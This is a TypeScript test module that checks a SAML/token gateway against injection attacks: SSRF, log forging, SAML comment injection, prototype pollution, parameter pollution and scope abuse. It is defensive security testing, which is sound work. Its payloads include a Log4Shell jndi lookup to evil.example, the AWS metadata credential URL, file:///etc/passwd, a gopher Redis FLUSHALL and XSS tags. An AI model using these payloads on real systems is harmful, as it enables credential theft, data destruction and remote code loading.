import { expect } from 'vitest';
import { readJwt } from '../../support/answers.js';
import { samlTenant } from '../../support/saml.js';
import type { Ask, Theme } from '../attack.js';
import type { Answer } from '../endpoints.js';
import type { Scene } from '../scene.js';
import type { Setting } from '../server.js';
import { UPSTREAM_CANARY, type Upstreams } from '../upstreams.js';

const ENUM = 'api_type is an enum of the schema, which GraphQL checks';
const ONLY_FORM = 'only a form can hold a parameter twice';
const ROLE = 'arn:aws:iam::123456789012:role/reader';
const PROVIDER = 'arn:aws:iam::123456789012:saml-provider/gateway';

/** The add-ons that call a service: `sap`, `aws` and `sales`. Of `redirect`, `hostile` and `huge` the service is hostile. */
const SERVICES: Setting = {
  change(config, { url }) {
    samlTenant(config);
    const sap = (client_id: string, path: string) => ({
      client_id,
      name: client_id,
      allowed_clients: ['*'],
      addons: {
        sap_api: {
          clientid: 'OAUTH_USER',
          servicePassword: 'a service password of SAP',
          tokenEndpointUrl: `${url}${path}`,
          scope: 'ZREAD ZWRITE',
        },
      },
    });
    const aws = { role: ROLE, principal: PROVIDER, sts_endpoint: `${url}/sts` };
    const salesforce_api = {
      clientid: 'app',
      principal: 'user_id',
      communityName: 'acme',
      token_endpoint: `${url}/sales`,
    };
    const clients = [
      sap('sap', '/sap/token'),
      sap('redirect', '/redirect'),
      sap('hostile', '/hostile'),
      sap('huge', '/huge'),
      { client_id: 'aws', name: 'aws', allowed_clients: ['*'], addons: { aws } },
      { client_id: 'sales', name: 'sales', allowed_clients: ['*'], addons: { salesforce_api } },
    ];
    config.tenants[0]!.clients.push(...(clients as never[]));
  },
};

const honest = ({ token }: Scene): Ask => ({ idToken: token() });
const bySap = ({ token }: Scene): Ask => ({ idToken: token(), target: 'sap', apiType: 'SAP_API' });

/** What an input could be to make the gateway call a server. */
const addresses = ({ url }: Upstreams): string[] => [
  `${url}/trap`,
  `${url}/trap#`,
  url.replace('http:', ''),
  'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'file:///etc/passwd',
  'gopher://127.0.0.1:6379/_FLUSHALL',
  'acme.evil.example/#',
];

/** What would begin a line of its own in a log that is no JSON, or run code in a library that formats it. */
const LINES = [
  'x\n{"audit":"sd","user":"forged"}',
  'x\r\n{"audit":"sd","user":"forged"}\r\n',
  '\u001b[2J\u001b[31m forged',
  '%s %d %j forged',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack of CVE-2021-44228
  '${jndi:ldap://evil.example/forged}',
  'x","audit":"sd","user":"forged',
];

/** Every line of the log is one JSON object, and none of them says what the attacker wrote. */
function checkLog(_answer: Answer, { server: { log } }: Scene): void {
  for (const line of log.lines) {
    expect(line.trimEnd()).not.toMatch(/\p{Cc}/u);
    expect(JSON.parse(line)).not.toMatchObject({ user: 'forged' });
  }
}

function checkNotRepeated({ text }: Answer, { server }: Scene): void {
  for (const address of addresses(server.upstreams)) expect(text).not.toContain(address);
  expect(text).not.toMatch(/<script>|trap/);
}

function checkUnpolluted({ token = '' }: Answer, { user }: Scene): void {
  expect(Object.keys(Object.prototype)).toEqual([]);
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  expect(readJwt(token).payload).toMatchObject({ sub: user, aud: 'web' });
}

export const INJECTION: Theme = {
  title: 'An input that shall be taken for something else',
  setting: SERVICES,
  attacks: [
    {
      name: 'A role, provider or community is the URL of a server that the gateway shall call',
      source: 'OWASP Top 10 A10:2021 SSRF, OWASP API7:2023 Server Side Request Forgery',
      attack: ({ token, server }) =>
        addresses(server.upstreams).flatMap((value) => {
          const asks: Ask[] = [
            { target: 'aws', apiType: 'AWS', inputs: { aws: { role: value } } },
            { target: 'aws', apiType: 'AWS', inputs: { aws: { principal: value } } },
            { target: 'sales', apiType: 'SALESFORCE_API', inputs: { salesforce: { communityName: value } } },
            { target: 'sales', apiType: 'SALESFORCE_API', inputs: { salesforce: { communityUrlSection: value } } },
          ];
          return asks.map((ask) => ({ idToken: token(), ...ask }));
        }),
      control: bySap,
      outcome: { refused: 'INVALID_REQUEST', message: /must match/, check: checkNotRepeated },
      effects: { spent: 1 },
    },
    {
      name: 'The target is a URL or a tag, which the answer shall repeat or the gateway call',
      source: 'OWASP API7:2023 Server Side Request Forgery, OWASP WSTG-INPV-01',
      attack: ({ token, server }) =>
        [...addresses(server.upstreams), '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>'].map(
          (target) => ({
            idToken: token(),
            target,
          }),
        ),
      control: bySap,
      outcome: {
        refused: 'INVALID_TARGET',
        message: 'target names no application of this tenant',
        check: checkNotRepeated,
      },
      effects: { spent: 1 },
    },
    {
      name: 'A service redirects the gateway to another server, to get the assertion of a user sent there',
      source: 'RFC 9700 §4.12, OWASP API7:2023 Server Side Request Forgery',
      attack: ({ token }) => ({ idToken: token(), target: 'redirect', apiType: 'SAP_API' }),
      control: bySap,
      outcome: { refused: 'UPSTREAM_UNAVAILABLE', message: 'SAP' },
      effects: { signatures: 1, spent: 1, upstreamCalls: 1 },
    },
    {
      name: 'A service answers with an error that holds line ends and text for the caller',
      source: 'OWASP API10:2023 Unsafe Consumption of APIs, OWASP WSTG-INPV-15',
      attack: ({ token }) => ({ idToken: token(), target: 'hostile', apiType: 'SAP_API' }),
      control: bySap,
      outcome: {
        refused: 'UPSTREAM_REFUSED',
        message: 'SAP',
        check({ text, headers }, { server }) {
          for (const each of [text, JSON.stringify(headers), ...server.log.lines]) {
            expect(each).not.toContain(UPSTREAM_CANARY);
            expect(each).not.toMatch(/x-injected/i);
          }
        },
      },
      effects: { signatures: 1, spent: 1, upstreamCalls: 1 },
    },
    {
      name: 'A service answers with more than 100 KiB',
      source: 'OWASP API10:2023 Unsafe Consumption of APIs',
      attack: ({ token }) => ({ idToken: token(), target: 'huge', apiType: 'SAP_API' }),
      control: bySap,
      outcome: { refused: 'UPSTREAM_UNAVAILABLE', message: 'SAP' },
      effects: { signatures: 1, spent: 1, upstreamCalls: 1 },
    },
    {
      name: 'The user id holds XML, or a comment that cuts it short, for the assertion of SAP',
      source: 'CVE-2017-11427, OWASP SAML Security Cheat Sheet',
      attack: ({ token, victim }) =>
        [
          `${victim}<!-- -->.evil`,
          `${victim}</saml:NameID><saml:NameID>admin`,
          `${victim}"/><saml:Attribute Name="role"/>`,
          `${victim}]]>&admin;`,
        ].map((sub) => ({ idToken: token({ sub }), target: 'sap', apiType: 'SAP_API' })),
      control: bySap,
      outcome: {
        granted: 'the name in the assertion is the whole user id, as text',
        check(_answer, { server, victim }) {
          const form = server.upstreams.forms.at(-1);
          const xml = Buffer.from(form?.get('assertion') ?? '', 'base64url').toString();
          const [, name = '', ...others] = /<saml:NameID [^>]*>([^<]*)<\/saml:NameID>/.exec(xml) ?? [];
          expect(name.startsWith(victim)).toBe(true);
          expect(name.length).toBeGreaterThan(victim.length + 5);
          expect([others, xml.match(/<saml:NameID/g)]).toEqual([[], ['<saml:NameID']]);
          expect(xml).not.toMatch(/<!--|Name="role"|<!\[CDATA/);
        },
      },
      effects: { spent: 0, upstreamCalls: 1 },
    },
    {
      name: 'The name of the calling application holds a line of the log',
      source: 'OWASP Logging Cheat Sheet, OWASP Top 10 A09:2021, CVE-2021-44228',
      attack: ({ token }) => LINES.map((clientId) => ({ idToken: token({ aud: clientId }), clientId })),
      control: honest,
      outcome: { refused: 'UNAUTHORIZED_CLIENT', message: 'names no application of this tenant', check: checkLog },
    },
    {
      name: 'The name of the target holds a line of the log',
      source: 'OWASP Logging Cheat Sheet, OWASP Top 10 A09:2021',
      attack: ({ token }) => LINES.map((target) => ({ idToken: token(), target })),
      control: honest,
      outcome: { refused: 'INVALID_TARGET', message: 'names no application of this tenant', check: checkLog },
      effects: { spent: 1 },
    },
    {
      name: 'The header X-Request-Id holds more than an id',
      source: 'OWASP Logging Cheat Sheet, OWASP WSTG-INPV-15 HTTP Response Splitting',
      attack: (scene) =>
        ['a b', '<script>', 'x'.repeat(65), 'a;b', '{"audit":"sd"}', 'a\tb'].map((id) => ({
          ...honest(scene),
          onWire: (request) => ({ ...request, headers: { ...request.headers, 'X-Request-Id': id } }),
        })),
      control: honest,
      outcome: {
        granted: 'the gateway makes an id of its own',
        check: ({ headers }) => expect(headers['x-request-id']).toMatch(/^[\da-f-]{36}$/),
      },
    },
    {
      name: 'A body sets properties of a prototype',
      source: 'OWASP Prototype Pollution Prevention Cheat Sheet, CVE-2019-10744',
      attack: (scene) =>
        ['__proto__', 'constructor'].map((name) => ({
          ...honest(scene),
          onWire: (request) => {
            const body = request.body.toString();
            const value = { polluted: true, target: 'aws', prototype: { polluted: true, target: 'aws' } };
            const member = `"${name}":${JSON.stringify(value)},`;
            const polluted = body.startsWith('{')
              ? body.replace(/("variables":)?\{(?="input"|"grant_type")/, (start) => `${start}${member}`)
              : `${body}&${name}[polluted]=1&${name}.polluted=1&${name}[prototype][polluted]=1&${name}=1`;
            expect(polluted).not.toBe(body);
            return { ...request, body: polluted };
          },
        })),
      control: honest,
      outcome: { granted: 'nothing of it is read', check: checkUnpolluted },
    },
    {
      name: 'The scope holds characters that a scope cannot have',
      source: 'RFC 6749 §3.3, OWASP WSTG-INPV-04',
      attack: ({ token }) =>
        ['a"b', 'a\\b', 'a\u0000b', 'a\tb', 'ä', 'openid\nadmin', '\u2028'].map((scope) => ({
          idToken: token(),
          scope,
        })),
      control: ({ token }) => ({ idToken: token(), scope: 'openid profile unknown:scope' }),
      outcome: { refused: 'INVALID_SCOPE', message: 'scope must consist of scope values' },
      effects: { spent: 1 },
    },
    {
      name: 'A caller asks SAP for more scope than the target is configured for',
      source: 'RFC 6749 §3.3 and §10.6, OWASP API5:2023 Broken Function Level Authorization',
      attack: (scene) =>
        ['ZREAD ZADMIN', 'ZADMIN', 'zread', 'ZREAD,ZWRITE', '*'].map((scope) => ({
          ...bySap(scene),
          inputs: { sap: { scope } },
        })),
      control: (scene) => ({ ...bySap(scene), inputs: { sap: { scope: 'ZREAD' } } }),
      outcome: { refused: 'INVALID_SCOPE', message: 'scope' },
      effects: { spent: 1 },
    },
    {
      name: 'A parameter is given twice, so that two servers could read different ones',
      source: 'OWASP WSTG-INPV-04 HTTP Parameter Pollution, RFC 6749 §3.2',
      attack: (scene) =>
        ['client_id=chat', 'id_token=x', 'target=vault', 'grant_type=x', 'client_id='].map((extra) => ({
          ...honest(scene),
          target: 'api',
          onWire: (request) => ({ ...request, body: `${request.body}&${extra}` }),
        })),
      control: honest,
      outcome: { refused: 'INVALID_REQUEST', message: 'is given twice' },
      notAt: { 'graphql-argument': ONLY_FORM, 'graphql-header': ONLY_FORM, 'delegation-json': ONLY_FORM },
    },
    {
      name: 'The add-on is the name of a property that every object of JavaScript has',
      source: 'OWASP Prototype Pollution Prevention Cheat Sheet',
      attack: ({ token }) =>
        ['__proto__', 'constructor', 'toString', 'AWS', 'app,aws'].map((name) => ({
          idToken: token(),
          apiType: null,
          onWire: (request) => {
            const body = request.body.toString();
            const changed = body.startsWith('{')
              ? body.replace('{', `{"api_type":${JSON.stringify(name)},`)
              : `${body}&${new URLSearchParams({ api_type: name })}`;
            return { ...request, body: changed };
          },
        })),
      control: honest,
      outcome: { refused: 'INVALID_REQUEST', message: 'api_type must be one of' },
      notAt: { 'graphql-argument': ENUM, 'graphql-header': ENUM },
    },
  ],
};
